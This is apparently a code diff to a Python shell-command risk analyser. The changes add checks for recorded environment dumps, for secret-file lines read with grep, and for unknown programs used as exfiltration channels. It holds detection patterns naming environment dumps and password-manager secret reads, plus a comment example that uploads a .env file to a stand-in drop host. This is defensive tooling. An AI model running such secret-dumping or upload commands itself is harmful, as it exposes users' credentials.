@@ -794,11 +794,18 @@ class _Run:
             remaining = remaining[1:]
         if shell_string is not None:
             inv = Invocation(name, rest, cmd, scope, privileged)
+            log = None
             if spec.get("output_positional") and remaining and not remaining[0].value.startswith("-"):
                 written = self.write(remaining[0], inv, f"{name} writes its log to")  # script -c CMD FILE
                 if written is not None:
                     self.add(written)
+                log = self.path(remaining[0], inv).path
+            before = len(self.result.findings)
             self.nested(shell_string, inv, f"{name} -c", scope.copy())
+            if log and (_ENV_DUMP.match(shell_string) or any(
+                    f.rule in ("fs.secret-read", "net.send-secret") or f.category == "secrets"
+                    for f in self.result.findings[before:])):
+                self.secret_copies.add(log)  # a recording of a secret printed is a copy of it (asciinema upload)
             if privileged:
                 self.add(ask(f"{name} runs commands as another user (root)", "privilege", BlastRadius.HIGH,
                              "shell.privilege"))
@@ -917,9 +924,11 @@ class _Run:
         if sync is not None:
             findings.append(sync)
         dry_run = any(f.rule == "taxonomy.dry-run" for f in findings)
-        if not dry_run and (name in RUNNERS or any(f.rule in ("shell.unknown", "shell.script", "shell.not-installed")
-                                                   for f in findings)):
+        unknown = any(f.rule in ("shell.unknown", "shell.script", "shell.not-installed") for f in findings)
+        if not dry_run and (name in RUNNERS or unknown):
             findings.extend(self.generic(inv))
+        if unknown:
+            findings.extend(channels.unknown_program(self, inv))  # `sharetool .env https://drop.example/in`
         return findings
 
     def command_options(self, inv: Invocation) -> list[Finding]:
@@ -1415,6 +1424,10 @@ class _Run:
                 info = classify(w, cmd.scope, self.tax) if not a.startswith("-") else None
                 if info is not None and info.path and not cmd.scope.remote and holds_credentials(info.path):
                     return Stream("secret")
+        if name in _CREDENTIAL_PICKERS and not {"-c", "-l", "-L", "-q", "--count", "--quiet", "--files-with-matches"} & \
+                set(args) and any(not a.startswith("-") and (info := classify(w, cmd.scope, self.tax)).path and
+                                  is_secret(info.path, cmd.scope.home, self.tax) for a, w in zip(args, words[1:])):
+            return Stream("secret")  # grep '^DATABASE_URL=' .env: lines of a secret file
         upstream = self.stdin_source(cmd)
         known = Output(upstream.text, upstream.obfuscated) if upstream.kind == "text" and upstream.text is not None \
             else None
@@ -1446,6 +1459,7 @@ def _reaches_terminal(cmd: SimpleCommand) -> bool:
 
 
 # commands whose output is a secret: keychains, password managers, cloud credentials
+_ENV_DUMP = re.compile(r"^\s*(?:env|printenv|set|export\s+-p|declare\s+-x|cat\s+/proc/self/environ)\s*$")
 _SECRET_PRINTERS = re.compile(r"^(security find-(generic|internet)-password .*-w|op (read|item get)|pass (show )?\S|"
                               r"git credential(-\S+)? (fill|get)|"
                               r"gopass (show )?\S|bw get|lpass show|vault (kv get|read) .*-field|aws configure get |"
